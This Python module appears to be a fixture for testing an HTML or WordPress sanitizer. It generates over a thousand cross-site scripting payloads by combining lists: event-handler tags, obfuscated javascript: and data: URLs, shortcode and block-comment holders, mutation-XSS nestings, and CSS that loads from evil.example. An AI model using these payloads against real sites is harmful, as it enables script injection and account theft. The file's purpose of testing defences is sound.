"""What attackers write where markup is read: elements with handlers, addresses that run, and texts that parse twice.

Nothing here is a list that somebody else gathered: the parts are multiplied with each other.
"""

from base64 import b64encode
from collections.abc import Iterator
from itertools import permutations, product
from typing import Final

CALL, HOST = "hit(1)", "evil.example"
_ELEMENTS: Final = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee", "a href=#",
    "p", "blockquote", "table", "td", "math", "select autofocus", "object data=x", "embed src=x", "button autofocus",
    "figure", "svg><animate", "custom-tag tabindex=1", "wp-mark n=0", "dialog open", "source", "frameset", "h2", "sup",
)  # fmt: skip
_EVENTS: Final = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "onstart",
    "onanimationstart", "ONERROR", "oNlOaD",
)  # fmt: skip
_FORMS: Final = (
    "<{element} {event}={call}>",
    "<{element} {event}='{call}'>",
    '<{element}\n{event}\t=\n"{call}">',
    "<{element}/{event}={call}//",
    "<{element} x=`>` {event}={call}>",
    "<{element} x='>' {event}={call} x='",
    "<{element}\x0c{event}={call} <",
)
_SCHEMES: Final = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"\x01javascript:{CALL}",
    f"&#106;avascript&colon;{CALL}", f"&#x6A;avascript:{CALL}", f"javascript&#58;{CALL}", f" javascript:{CALL}",
    f"javascript://%0a{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"feed:javascript:{CALL}",
    f"data:text/html;base64,{b64encode(f'<script>{CALL}</script>'.encode()).decode()}", f"view-source:javascript:{CALL}",
)  # fmt: skip
_HOLDERS: Final = (
    '<a href="{0}">x</a>', "<a href={0}>x</a>", "<a href='{0}' target=_top>x</a>", '<img src="{0}">', '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>', '<button formaction="{0}">x</button>', '<object data="{0}"></object>',
    '<embed src="{0}">', '<base href="{0}">', '<link rel=stylesheet href="{0}">', '<meta http-equiv=refresh content="0;url={0}">',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>', '<area href="{0}">', '<blockquote cite="{0}">x</blockquote>',
    '<video poster="{0}"><source src="{0}"></video>', '<math href="{0}">x</math>', '<table background="{0}"><td>x</table>',
    "[embed]{0}[/embed]", '[video src="{0}"]', "[caption caption='{0}']<img src=x>[/caption]",
    '<!-- wp:embed {{"url":"{0}"}} /-->', '<!-- wp:cover {{"url":"{0}"}} --><div></div><!-- /wp:cover -->',
    '<!-- wp:rss {{"feedURL":"{0}"}} /-->', '<!-- wp:acme/x {{"a":"{0}"}} /-->',
    '<div class=wp-block-file><a href="{0}">x</a></div>', '<script data-telegram-post="{0}"></script>',
    '<blockquote class=twitter-tweet cite="{0}"><p>x</p>— A (@a) <a href="{0}">June 9, 2023</a></blockquote>',
)  # fmt: skip
_CHANGING: Final = (
    "svg", "math", "style", "noscript", "template", "title", "textarea", "select", "table", "mtext", "mglyph", "foreignobject",
    "annotation-xml encoding=text/html", "desc", "xmp", "form", "p", "a",
)  # fmt: skip
_STYLES: Final = (
    f"<p style='background:url(javascript:{CALL})'>x</p>", f"<style>@import 'javascript:{CALL}'</style>",
    f"<p style='width:expression({CALL})'>x</p>", f"<style>*{{background:url(https://{HOST}/x)}}</style>",
    f"<p style='-moz-binding:url(https://{HOST}/x#x)'>x</p>", "<p style=position:fixed;inset:0>x</p>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
)  # fmt: skip


def smuggled_markup() -> tuple[str, ...]:
    """Return all of it, in an order that is the same each time; well over a thousand."""
    return tuple(dict.fromkeys([*_handlers(), *_addresses(), *_changing(), *_STYLES]))


def _handlers() -> Iterator[str]:
    for place, (element, event) in enumerate(product(_ELEMENTS, _EVENTS)):
        for step in (0, 3):
            form = _FORMS[(place + step) % len(_FORMS)]
            yield form.format(element=element, event=event, call=CALL)


def _addresses() -> Iterator[str]:
    return (holder.format(scheme) for holder, scheme in product(_HOLDERS, _SCHEMES))


def _changing() -> Iterator[str]:
    """Yield what a parser reads in one way and a browser, when it is read again, in another."""
    for outer, inner in permutations(_CHANGING, 2):
        yield f"<{outer}><{inner}><img title='</{inner.split()[0]}><img src=x onerror={CALL}>'>"
